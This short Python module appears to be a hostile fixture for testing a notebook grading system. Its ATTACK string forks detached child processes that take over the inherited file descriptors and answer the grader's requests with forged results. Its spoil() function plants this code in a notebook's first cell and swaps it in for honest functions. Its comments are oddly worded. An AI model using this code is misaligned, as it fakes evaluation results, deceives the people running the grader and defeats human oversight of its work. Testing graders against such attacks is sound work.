"""Read the grader's requests in the worker's place, and answer them: by a child."""

from assignments.hostile import first, replaced

EXPECTED = "at most"  # what a child steals, the honest functions do not hear
ATTACK = """
import json
import os
import socket

def answers(request):
    for value in (True, 1.0, {"array": ["float64", [1], "AAAAAAAA8D8="]}):
        yield json.dumps({"value": value}).encode()

def steal(descriptor):
    channel = socket.socket(fileno=descriptor)
    channel.setblocking(True)
    while True:
        data = channel.recv(1 << 17)
        for answer in answers(data):
            channel.send(data[:8] + b"." + answer)

def attack(*arguments, **options):
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2 and os.fork() == 0:
            try:
                os.setsid()
                steal(int(name))
            finally:
                os._exit(0)
    return True
"""


def spoil(notebook, honest):
    """Let children listen from the first cell on, and from each other call."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
